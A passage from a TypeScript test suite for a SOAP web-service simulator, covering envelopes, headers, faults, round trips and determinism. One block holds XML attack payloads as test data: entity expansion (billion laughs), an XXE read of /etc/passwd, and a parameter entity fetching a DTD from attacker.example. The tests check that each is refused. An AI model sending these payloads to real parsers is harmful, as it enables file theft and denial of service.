      const listed = success(sim, 'ListCustomers', send(sim, 'ListCustomers', {}, version), version);
      const id = valuesAt(listed, 'customerId')[0]!;
      const del = sim.ops.DeleteCustomer!;
      const payload = writeElement(del.input.element, { customerId: id }, del.input.schema, sim.artifact.schemas);
      const must = version === '1.1' ? '1' : 'true';
      const body = `<env:Envelope xmlns:env="${envNs(version)}"><env:Header><tx:Transaction xmlns:tx="urn:example:tx" env:mustUnderstand="${must}">42</tx:Transaction></env:Header><env:Body>${payload}</env:Body></env:Envelope>`;
      const answer = sim.client.call({ method: 'POST', path: '/', headers: soapHeaders(version, del.bindings.find((b) => b.version === version)!.action), body });
      expect(faultOf(answer, version).code, answer.text).toBe('MustUnderstand');
      success(sim, 'GetCustomer', send(sim, 'GetCustomer', { customerId: id }, version), version);
    });

    it(`SOAP ${version}: a header block it need not understand is ignored`, async () => {
      const sim = await open('crm-customers.wsdl', 'optional-header', 1);
      const list = sim.ops.ListCustomers!;
      const body = `<env:Envelope xmlns:env="${envNs(version)}"><env:Header><tx:Trace xmlns:tx="urn:example:tx" env:mustUnderstand="${version === '1.1' ? '0' : 'false'}">abc</tx:Trace><tx:Other xmlns:tx="urn:example:tx"/></env:Header><env:Body>${writeElement(list.input.element, {}, list.input.schema, sim.artifact.schemas)}</env:Body></env:Envelope>`;
      const answer = sim.client.call({ method: 'POST', path: '/', headers: soapHeaders(version, list.bindings.find((b) => b.version === version)!.action), body });
      success(sim, 'ListCustomers', answer, version);
    });
  }

  it('a WS-Security header marked mustUnderstand is understood: clients that sign in with it are answered', async () => {
    const sim = await open('crm-customers.wsdl', 'ws-security', 1);
    const list = sim.ops.ListCustomers!;
    const security = '<wsse:Security xmlns:wsse="http://docs.oasis-open.org/wss/2004/01/oasis-200401-wss-wssecurity-secext-1.0.xsd" env:mustUnderstand="1"><wsse:UsernameToken><wsse:Username>u</wsse:Username><wsse:Password>p</wsse:Password></wsse:UsernameToken></wsse:Security>';
    const body = `<env:Envelope xmlns:env="${SOAP11}"><env:Header>${security}</env:Header><env:Body>${writeElement(list.input.element, {}, list.input.schema, sim.artifact.schemas)}</env:Body></env:Envelope>`;
    success(sim, 'ListCustomers', sim.client.call({ method: 'POST', path: '/', headers: soapHeaders('1.1', list.action), body }), '1.1');
  });

  it('an action that names an operation with a body element no operation takes is refused, not read as that operation', async () => {
    const sim = await open('crm-customers.wsdl', 'unknown-element', 1);
    const body = requestEnvelope('1.1', '<x:Nope xmlns:x="urn:nowhere"><x:customerId>CUS-00000001</x:customerId></x:Nope>');
    const answer = sim.client.call({ method: 'POST', path: '/', headers: soapHeaders('1.1', sim.ops.GetCustomer!.action), body });
    const fault = faultOf(answer, '1.1');
    expect(fault.code).toBe('Client');
    // Not the read's "not found": the call was not understood as a GetCustomer.
    expect(fault.detail, answer.text).toBeNull();
  });
});

describe('a delete answers what it did', () => {
  for (const name of ['crm-customers.wsdl', 'catalog']) {
    it(`${name}: a delete that removed the record answers its lone boolean (deleted) true`, async () => {
      const { entity } = FIXTURES[name]!;
      const sim = await open(name, 'deleted', 2);
      const version = FIXTURES[name]!.versions[0]!;
      const listed = success(sim, entity!.list!, send(sim, entity!.list!, {}, version), version);
      const id = valuesAt(listed, entity!.id)[0]!;
      expect(id, JSON.stringify(listed)).toBeDefined();
      const schema = sim.ops[entity!.delete!]!.input.schema;
      const answer = success(sim, entity!.delete!, send(sim, entity!.delete!, withId(sim, schema, generated(sim, schema, 'delete'), entity!.id, id), version), version);
      const flags = Object.values(answer as Record<string, Json>).filter((v) => typeof v === 'boolean');
      expect(flags, JSON.stringify(answer)).toEqual([true]);
    });
  }
});

describe('the generated hub (generate-large-bundle.mjs, four parts)', () => {
  /**
   * Its README: per entity X, `CreateX`, `GetX`, `UpdateX`, `DeleteX`, `ListXs`, `SearchXs`, a fault
   * `XNotFound`, the id element rotating between `xId`, `XID`, `xNumber` and `id`. The entities and
   * their id elements are read off the generated documents: the `GetX` wrapper's one child.
   */
  function expectations(): { operations: Record<string, Expected>; entities: EntityExpectation[] } {
    const { files } = largeWsdlBundle({ schemas: 4, targetBytes: 0 }) as { files: Map<string, string> };
    const service = files.get('service.wsdl')!;
    const schemas = [...files.values()].join('\n');
    const operations: Record<string, Expected> = {};
    const entities: EntityExpectation[] = [];
    // The port type and both bindings name each operation: each entity once.
    for (const entity of new Set([...service.matchAll(/<wsdl:operation name="Create(\w+)">/g)].map((m) => m[1]!))) {
      const id = new RegExp(`<xs:element name="Get${entity}"><xs:complexType><xs:sequence><xs:element name="(\\w+)"`).exec(schemas)![1]!;
      const plural = new RegExp(`<wsdl:operation name="List(\\w+)">`).exec(service.slice(service.indexOf(`<wsdl:operation name="Create${entity}">`)))![1]!;
      Object.assign(operations, {
        [`Create${entity}`]: ['create', entity, false],
        [`Get${entity}`]: ['read', entity, true],
        [`Update${entity}`]: ['update', entity, false],
        [`Delete${entity}`]: ['delete', entity, false],
        [`List${plural}`]: ['list', entity, true],
        [`Search${plural}`]: ['list', entity, true],
      });
      entities.push({ resource: entity!, id, create: `Create${entity}`, read: `Get${entity}`, update: `Update${entity}`, list: `List${plural}`, delete: `Delete${entity}`, notFound: `${entity}NotFound` });
    }
    return { operations, entities };
  }

  const { operations, entities } = expectations();

  it('has four entities with every id convention the README names', () => {
    expect(entities.length).toBe(4);
    expect(new Set(entities.map((e) => (e.id === 'id' ? 'id' : e.id.endsWith('ID') ? 'XID' : e.id.endsWith('Id') ? 'xId' : e.id.endsWith('Number') ? 'xNumber' : e.id))).size).toBeGreaterThan(1);
  });

  it('infers each entity\'s six operations and keys its records by its id element', async () => {
    const { outcome, artifact } = await compileArtifact(upload(GENERATED));
    expect(Object.fromEntries(outcome.operations.map((op) => [op.operation, [op.behaviour, op.resource, op.read_only]]))).toEqual(operations);
    expect(Object.fromEntries(artifact.resources.map((r) => [r.name, r.idField]))).toEqual(Object.fromEntries(entities.map((e) => [e.resource, e.id])));
  });

  for (const entity of entities) {
    for (const version of ['1.1', '1.2'] as const) {
      it(`drives ${entity.resource} (keyed by ${entity.id}) over SOAP ${version} envelopes`, async () => {
        await driveCrud(GENERATED, entity, version);
      });
    }
  }
});

describe('versions', () => {
  it('a SOAP 1.2 request to an operation only bound for 1.1 gets a VersionMismatch Fault, and the reverse too', async () => {
    const bank = await open('bank-accounts-rpc.wsdl');
    const op = bank.ops.GetAccount!;
    const payload = writeElement(op.input.element, { accountNumber: '0123456789' }, op.input.schema, bank.artifact.schemas);
    const answer = bank.client.call({ method: 'POST', path: '/', headers: soapHeaders('1.2', null), body: requestEnvelope('1.2', payload) });
    const fault = faultOf(answer, '1.2');
    expect(fault.code).toBe('VersionMismatch');
    const ship = await open('carrier-shipping-soap12.wsdl');
    const get = ship.ops.GetShipment!;
    const body = requestEnvelope('1.1', writeElement(get.input.element, '1Z0000000000000000', get.input.schema, ship.artifact.schemas));
    expect(faultOf(ship.client.call({ method: 'POST', path: '/', headers: soapHeaders('1.1', get.action), body }), '1.1').code).toBe('VersionMismatch');
  });

  it('an envelope whose namespace disagrees with the content type is refused in the content type’s version', async () => {
    const sim = await open('crm-customers.wsdl');
    const op = sim.ops.GetCustomer!;
    const body = requestEnvelope('1.2', writeElement(op.input.element, { customerId: 'CUS-00000001' }, op.input.schema, sim.artifact.schemas));
    const answer = sim.client.call({ method: 'POST', path: '/', headers: soapHeaders('1.1', op.action), body });
    expect(faultOf(answer, '1.1').code).toMatch(/^(VersionMismatch|Client)$/);
  });
});

describe('declared faults', () => {
  for (const version of ['1.1', '1.2'] as const) {
    it(`an invalid create (SOAP ${version}) answers the declared validation fault, its detail valid against its schema`, async () => {
      const sim = await open('crm-customers.wsdl', 'invalid');
      const create = sim.ops.CreateCustomer!;
      // displayName is required by CustomerInput; a customer without it is not a valid request.
      const payload = `<c:CreateCustomer xmlns:c="${create.input.element.ns}"><c:customer><c:person><c:givenName>No</c:givenName><c:familyName>Name</c:familyName></c:person></c:customer></c:CreateCustomer>`;
      const answer = sim.client.call({ method: 'POST', path: '/', headers: soapHeaders(version, create.bindings.find((b) => b.version === version)!.action), body: requestEnvelope(version, payload) });
      const fault = faultOf(answer, version);
      expect(fault.code).toBe(senderCode(version));
      expect(fault.reason, answer.text).toMatch(/displayName/);
      const declared = create.faults.find((f) => f.name === 'ValidationFault')!;
      expect(fault.detail && { ns: fault.detail.ns, local: fault.detail.local }, answer.text).toEqual(declared.element);
      const detail = readElement(fault.detail!, declared.schema!, sim.artifact.schemas);
      if (!('value' in detail)) throw new Error(`${detail.path}: ${detail.problem}`);
      expect(sim.registry.validate(declared.schema!, detail.value).problem).toBeNull();
      // Nothing was created.
      const listed = success(sim, 'ListCustomers', send(sim, 'ListCustomers', {}, version), version);
      expect(valuesAt(listed, 'customerId')).toEqual([]);
    });
  }
});

describe('hand-written requests to the bare weather service', () => {
  const W = 'http://data.meteo-nordwest.example/forecast/1.5';
  const ACTION = `${W}#`;
  const call = (sim: Sim, version: Version, operation: string, payload: string) =>
    sim.client.call({ method: 'POST', path: '/', headers: soapHeaders(version, ACTION + operation), body: requestEnvelope(version, payload) });

  for (const version of ['1.1', '1.2'] as const) {
    it(`SOAP ${version}: each branch of the Location choice, a sequence among them, is answered; a mix of branches, half a sequence or a bad facet is the sender's Fault`, async () => {
      const sim = await open('weather-bare.wsdl', 'weather');
      const good = [
        `<w:Location xmlns:w="${W}"><w:stationCode>EDDH</w:stationCode></w:Location>`,
        `<w:Location xmlns:w="${W}"><w:postalCode>20095</w:postalCode></w:Location>`,
        `<w:Location xmlns:w="${W}"><w:latitude>53.550000</w:latitude><w:longitude>9.993333</w:longitude></w:Location>`,
      ];
      for (const payload of good) {
        const conditions = success(sim, 'GetCurrentConditions', call(sim, version, 'GetCurrentConditions', payload), version);
        expect(isObject(conditions), payload).toBe(true);
      }
      const bad = [
        `<w:Location xmlns:w="${W}"><w:stationCode>EDDH</w:stationCode><w:postalCode>20095</w:postalCode></w:Location>`,
        `<w:Location xmlns:w="${W}"><w:latitude>53.55</w:latitude></w:Location>`,
        `<w:Location xmlns:w="${W}"><w:stationCode>eddh</w:stationCode></w:Location>`,
        `<w:Location xmlns:w="${W}"><w:latitude>91</w:latitude><w:longitude>9.99</w:longitude></w:Location>`,
        `<w:Location xmlns:w="${W}"/>`,
      ];
      for (const payload of bad) {
        const answer = call(sim, version, 'GetCurrentConditions', payload);
        expect(faultOf(answer, version).code, `${payload}\n${answer.text}`).toBe(senderCode(version));
      }
    });

    it(`SOAP ${version}: a forecast for a number of days within its range, or none (the default), and not 15`, async () => {
      const sim = await open('weather-bare.wsdl', 'forecast');
      const request = (days: string) => `<w:ForecastRequest xmlns:w="${W}"><w:location><w:stationCode>EDDH</w:stationCode></w:location>${days}</w:ForecastRequest>`;
      success(sim, 'GetForecast', call(sim, version, 'GetForecast', request('')), version);
      success(sim, 'GetForecast', call(sim, version, 'GetForecast', request('<w:days>14</w:days>')), version);
      expect(faultOf(call(sim, version, 'GetForecast', request('<w:days>15</w:days>')), version).code).toBe(senderCode(version));
      expect(faultOf(call(sim, version, 'GetForecast', request('<w:days>two</w:days>')), version).code).toBe(senderCode(version));
    });

    it(`SOAP ${version}: a bare xs:string Ping answers a bare PingReply string`, async () => {
      const sim = await open('weather-bare.wsdl', 'ping');
      const reply = success(sim, 'Ping', call(sim, version, 'Ping', `<w:PingText xmlns:w="${W}">hello &amp; welcome</w:PingText>`), version);
      expect(typeof reply).toBe('string');
    });
  }
});

describe('hand-written rpc/literal requests to the bank', () => {
  const B = 'http://ws.firstharbour-bank.example/core/AccountManagement/v3';
  const call = (sim: Sim, payload: string) => sim.client.call({ method: 'POST', path: '/', headers: soapHeaders('1.1', null), body: requestEnvelope('1.1', payload) });

  it('takes the parts as unqualified children of the operation wrapper and answers both output parts in order', async () => {
    const sim = await open('bank-accounts-rpc.wsdl', 'rpc-hand');
    const answer = call(sim, `<b:ValidateIban xmlns:b="${B}"><iban>DE89370400440532013000</iban></b:ValidateIban>`);
    const value = success(sim, 'ValidateIban', answer, '1.1') as Record<string, Json>;
    expect(typeof value.valid).toBe('boolean');
    const payload = bodyOf(answer, '1.1')!;
    expect(childElements(payload).map((c) => [c.ns, c.local])).toEqual([['', 'valid'], ['', 'bankCode']].filter(([, local]) => Object.hasOwn(value, local!)));
  });

  it('reads a part a client qualified wrongly by its name (lenient in), and refuses a part it does not declare', async () => {
    const sim = await open('bank-accounts-rpc.wsdl', 'rpc-hand');
    success(sim, 'ValidateIban', call(sim, `<b:ValidateIban xmlns:b="${B}"><b:iban>DE89370400440532013000</b:iban></b:ValidateIban>`), '1.1');
    const answer = call(sim, `<b:ValidateIban xmlns:b="${B}"><iban>DE89370400440532013000</iban><bic>X</bic></b:ValidateIban>`);
    expect(faultOf(answer, '1.1').code, answer.text).toBe('Client');
  });

  it('an unknown account answers the declared AccountNotFoundFault', async () => {
    const sim = await open('bank-accounts-rpc.wsdl', 'rpc-hand', 0);
    const answer = call(sim, `<b:GetAccount xmlns:b="${B}"><accountNumber>0000000000</accountNumber></b:GetAccount>`);
    const fault = faultOf(answer, '1.1');
    expect(fault.code).toBe('Client');
    expect(fault.detail?.local, answer.text).toBe('AccountNotFoundFault');
  });
});

describe('values survive a create → read round trip', () => {
  it('bank (rpc): enums, simpleContent with an attribute, arrays of complex items', async () => {
    const sim = await open('bank-accounts-rpc.wsdl', 'values');
    const account = {
      accountType: 'SAVINGS',
      currency: 'CHF',
      holder: [
        { partyId: 41, fullName: 'Ada Lovelace', role: 'PRIMARY' },
        { partyId: 42, fullName: 'Charles Babbage', role: 'JOINT' },
      ],
      nickname: 'Rainy <day> & "fund"',
      overdraftLimit: { $value: 250.5, currency: 'EUR' },
      branchCode: 'ZH-001',
    };
    const created = success(sim, 'CreateAccount', send(sim, 'CreateAccount', { account, channel: 'BRANCH' }, '1.1'), '1.1');
    // The create's own answer already went through the writer and the reader.
    expect(created).toMatchObject({ account });
    const id = valuesAt(created, 'accountNumber')[0]!;
    const read = success(sim, 'GetAccount', send(sim, 'GetAccount', { accountNumber: id }, '1.1'), '1.1');
    expect(recordWith(read, 'accountNumber', id)).toMatchObject(account);
  });

  it('payroll (bundle): xs:extension content across files and nillable (xsi:nil) values', async () => {
    const sim = await open('bundle-payroll', 'values');
    const add = sim.ops.AddEmployee!;
    // A generated new employee (NewEmployeeType extends PersonType), its nillable MiddleName nil.
    const input = generated(sim, add.input.schema, 'nil') as Record<string, Json>;
    const record = input.NewEmployee as Record<string, Json>;
    expect(record, JSON.stringify(input)).toBeDefined();
    record.MiddleName = null;
    record.FirstName = 'Ada';
    record.LastName = 'Lovelace';
    const xml = writeElement(add.input.element, input, add.input.schema, sim.artifact.schemas);
    expect(xml).toContain(`xmlns:xsi="${XSI}"`);
    expect(xml).toMatch(/MiddleName xsi:nil="true"\/>/);
    const answer = send(sim, 'AddEmployee', input, '1.1');
    const created = success(sim, 'AddEmployee', answer, '1.1');
    // The base type's fields (PersonType) come first, then the extension's, as the XSD orders them.
    expect(answer.text.indexOf('FirstName>')).toBeLessThan(answer.text.indexOf('NINumber>'));
    const result = (created as Record<string, Json>).AddEmployeeResult as Record<string, Json>;
    for (const key of ['FirstName', 'MiddleName', 'LastName', 'DateOfBirth', 'HomeAddress', 'NINumber', 'Department', 'JobTitle', 'Compensation']) {
      expect(result[key], `AddEmployeeResult.${key}`).toEqual(record[key]);
    }
    const id = result.EmployeeID!;
    const read = success(sim, 'GetEmployee', send(sim, 'GetEmployee', { EmployeeID: id }, '1.1'), '1.1');
    const kept = recordWith(read, 'EmployeeID', id);
    expect(kept, `GetEmployee of ${JSON.stringify(id)}: ${JSON.stringify(read)}`).not.toBeNull();
    for (const key of ['FirstName', 'MiddleName', 'LastName', 'HomeAddress', 'NINumber', 'Compensation']) expect(kept![key], key).toEqual(record[key]);
  });

  it('crm: both choice branches, the extension of Party, arrays, attributes, enums and xsi:nil, in 1.1 and 1.2', async () => {
    const sim = await open('crm-customers.wsdl', 'values');
    const people: Record<string, Json>[] = [
      {
        person: { title: 'Dr', givenName: 'Grace', familyName: 'Hopper' },
        displayName: 'Grace Hopper & <Co>',
        email: 'grace@example.com',
        phone: ['+15550001', '+15550002', '+15550003'],
        address: [
          { street: ['1 Navy Way', 'Building 7'], city: 'Arlington', postalCode: '22201', region: null, country: 'US', kind: 'billing', primary: true },
          { street: ['2 Pier Rd'], city: 'Norfolk', country: 'US', kind: 'shipping', primary: false },
        ],
        segment: 'ENTERPRISE',
        marketingOptIn: true,
        dateOfBirth: null,
      },
      { companyName: 'Analytical Engines Ltd', displayName: 'AEL', segment: 'SMB', marketingOptIn: false, dateOfBirth: '1815-12-10' },
    ];
    for (const version of ['1.1', '1.2'] as const) {
      for (const customer of people) {
        const create = sim.ops.CreateCustomer!;
        const xml = writeElement(create.input.element, { customer }, create.input.schema, sim.artifact.schemas);
        if (customer.dateOfBirth === null) expect(xml).toMatch(/dateOfBirth xsi:nil="true"\/>/);
        const created = success(sim, 'CreateCustomer', send(sim, 'CreateCustomer', { customer }, version), version);
        const id = valuesAt(created, 'customerId')[0]!;
        const answer = send(sim, 'GetCustomer', { customerId: id, includeAddresses: true }, version);
        const read = success(sim, 'GetCustomer', answer, version);
        const kept = recordWith(read, 'customerId', id)!;
        expect(kept, JSON.stringify(read)).toMatchObject(customer);
        // The branch not chosen is not made up.
        expect(Object.hasOwn(kept, 'person') && Object.hasOwn(kept, 'companyName')).toBe(false);
        if (customer.dateOfBirth === null) expect(answer.text).toMatch(/dateOfBirth xsi:nil="true"\/>/);
        if (customer.address !== undefined) expect(answer.text).toMatch(/address kind="billing" primary="true"/);
      }
    }
  });
});

describe('hostile request bodies', () => {
  const HOSTILE: Record<string, string> = {
    'a DOCTYPE with entities': `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><soap:Envelope xmlns:soap="${SOAP11}"><soap:Body><c:GetCustomer xmlns:c="http://crm.acme-example.test/schemas/customer/v4"><c:customerId>&lol2;</c:customerId></c:GetCustomer></soap:Body></soap:Envelope>`,
    'an external entity': `<?xml version="1.0"?><!DOCTYPE e [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><soap:Envelope xmlns:soap="${SOAP11}"><soap:Body><c:GetCustomer xmlns:c="http://crm.acme-example.test/schemas/customer/v4"><c:customerId>&xxe;</c:customerId></c:GetCustomer></soap:Body></soap:Envelope>`,
    'a parameter entity': `<?xml version="1.0"?><!DOCTYPE e [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><soap:Envelope xmlns:soap="${SOAP11}"><soap:Body/></soap:Envelope>`,
    // In a header block no operation reads, with a valid call in the Body: only a depth limit refuses it.
    '300-deep nesting': `<soap:Envelope xmlns:soap="${SOAP11}"><soap:Header><h:trace xmlns:h="urn:trace">${'<h:x>'.repeat(300)}1${'</h:x>'.repeat(300)}</h:trace></soap:Header><soap:Body><c:GetCustomer xmlns:c="http://crm.acme-example.test/schemas/customer/v4"><c:customerId>CUS-00000001</c:customerId></c:GetCustomer></soap:Body></soap:Envelope>`,
    'malformed XML': `<soap:Envelope xmlns:soap="${SOAP11}"><soap:Body><c:GetCustomer xmlns:c="urn:c"><c:customerId>1</c:GetCustomer></soap:Body>`,
    'an undeclared prefix': `<soap:Envelope xmlns:soap="${SOAP11}"><soap:Body><q:GetCustomer/></soap:Body></soap:Envelope>`,
    'not XML at all': '{"customerId": "CUS-00000001"}',
  };

  for (const [what, text] of Object.entries(HOSTILE)) {
    for (const version of ['1.1', '1.2'] as const) {
      it(`answers ${what} (SOAP ${version} content type) with a Client/Sender Fault, nothing expanded`, async () => {
        const sim = await open('crm-customers.wsdl', 'hostile');
        const body = version === '1.1' ? text : text.replaceAll(SOAP11, SOAP12);
        const answer = sim.client.call({ method: 'POST', path: '/', headers: soapHeaders(version, 'http://crm.acme-example.test/services/customers/v4/GetCustomer'), body });
        const fault = faultOf(answer, version);
        expect(fault.code).toBe(senderCode(version));
        expect(answer.text).not.toContain('lollollol');
        expect(answer.text).not.toContain('root:');
        expect(answer.text).not.toContain('attacker.example/p.dtd"');
      });
    }
  }

  it('the hostile fixture documents, POSTed as requests, are refused as Faults', async () => {
    const sim = await open('crm-customers.wsdl', 'hostile');
    const dir = new URL('hostile/', DIR);
    const files = readdirSync(dir).filter((f) => f.endsWith('.wsdl'));
    expect(files.length).toBeGreaterThan(0);
    for (const file of files) {
      const answer = sim.client.call({ method: 'POST', path: '/', headers: soapHeaders('1.1', null), body: readFileSync(new URL(file, dir), 'utf8') });
      expect(faultOf(answer, '1.1').code, file).toBe('Client');
    }
  });
});

describe('determinism', () => {
  /** Every answer of a fixed request sequence over every fixture operation, as text. */
  async function transcript(name: string, seed: string): Promise<string[]> {
    const sim = await open(name, seed, 3);
    const out: string[] = [];
    const { versions, entity } = FIXTURES[name]!;
    // Calls on one record name the last one created, so the sequence reads, updates and deletes what it made.
    const onOne = entity === null ? [] : [entity.read, entity.update, entity.delete];
    let created: Json | undefined;
    for (const round of [0, 1, 2]) {
      for (const version of versions) {
        for (const [id, op] of Object.entries(sim.ops)) {
          let value = generateValue(op.input.schema, { registry: sim.registry, random: randomFor(id, version, round), now: NOW });
          if (entity !== null && created !== undefined && onOne.includes(id)) value = withId(sim, op.input.schema, value, entity.id, created);
          const answer = send(sim, id, value, version);
          out.push(`${answer.status} ${JSON.stringify(answer.headers)} ${answer.text}`);
          if (entity !== null && id === entity.create && answer.status === 200) created = valuesAt(success(sim, id, answer, version), entity.id)[0];
        }
      }
    }
    // And the state the sequence left.
    out.push(sim.client.state.snapshot());
    return out;
  }

  for (const name of ['crm-customers.wsdl', 'catalog', 'bank-accounts-rpc.wsdl', 'bundle-travel', 'carrier-shipping-soap12.wsdl', 'weather-bare.wsdl']) {
    it(`${name}: the same seed and requests give byte-identical answers and state; another seed differs`, async () => {
      const first = await transcript(name, 'alpha');
      expect(first.filter((line) => line.startsWith('200 ')).length).toBeGreaterThan(first.length / 3);
      expect(await transcript(name, 'alpha')).toEqual(first);
      expect(await transcript(name, 'beta')).not.toEqual(first);
    });
  }
});
